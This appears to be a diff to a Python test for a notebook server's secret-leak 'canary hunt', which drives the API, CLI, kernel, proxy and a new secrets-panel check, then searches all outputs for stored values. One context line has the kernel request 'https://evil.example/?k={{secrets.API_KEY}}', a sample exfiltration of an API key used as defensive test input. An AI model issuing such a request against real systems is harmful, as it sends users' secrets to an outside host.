@@ -1,11 +1,12 @@
 """The canary hunt: drive every surface with stored canaries, then search everything.
 
 Surfaces: the REST API (success and errors), the CLI, a real kernel (calls, refusals,
-tracebacks), the proxy against an upstream that echoes what it gets, and notebooks saved
-with a pasted value. Searched: every response, every log line, every kernel message, every
-file under the test's folders (server root, data, config, runtime, store), and the SQLite
-file's bytes, for the raw, URL-encoded and base64 forms. The browser panel is hunted in
-tests/browser/ (DOM, websocket frames, saved notebook).
+tracebacks, the admin panel's widget state), the proxy against an upstream that echoes
+what it gets, and notebooks saved with a pasted value. Searched: every response, every log
+line, every kernel message, every file under the test's folders (server root, data,
+config, runtime, store), and the SQLite file's bytes, for the raw, URL-encoded and base64
+forms. The panel in a real browser is hunted in tests/browser/ (DOM, websocket frames,
+saved notebook).
 """
 
 from __future__ import annotations
@@ -99,6 +100,11 @@ async def test_no_surface_leaks_a_stored_value(
         await kernel.run("js.get('API_KEY')")
         await kernel.run("js.request('GET', 'https://evil.example/?k={{secrets.API_KEY}}')")
         await kernel.run("raise RuntimeError(str(js.connection('up').get('/echo/t').json()))")
+        # The panel in this kernel (no browser here: its widget state travels as comm
+        # messages, which are kernel messages searched below).
+        panel = await kernel.run("panel = js.SecretsPanel()\npanel")
+        assert panel.error is None, panel.text
+        assert "API_KEY" in panel.raw, "the panel's table (widget state) lists the names"
     finally:
         kernel.stop()
     kernel_messages = [run.raw for run in kernel.runs]
